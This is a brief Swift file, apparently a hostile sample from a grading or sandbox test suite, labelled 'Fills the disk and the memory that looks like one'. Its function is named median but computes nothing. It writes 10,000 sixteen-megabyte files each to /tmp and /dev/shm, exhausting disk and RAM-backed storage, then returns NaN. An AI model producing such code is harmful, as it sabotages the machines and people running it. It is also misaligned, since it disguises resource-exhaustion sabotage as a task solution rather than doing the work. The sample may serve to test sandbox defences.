// Fills the disk and the memory that looks like one.
//
// Earns: 0
// Flags: files
// swift-format-ignore-file

import Foundation

func median(_ values: [Double?]) -> Double? {
  let block = Data(repeating: 1, count: 16 << 20)
  for number in 0..<10_000 {
    try? block.write(to: URL(fileURLWithPath: "/tmp/\(number)"))
    try? block.write(to: URL(fileURLWithPath: "/dev/shm/\(number)"))
  }
  return .nan
}
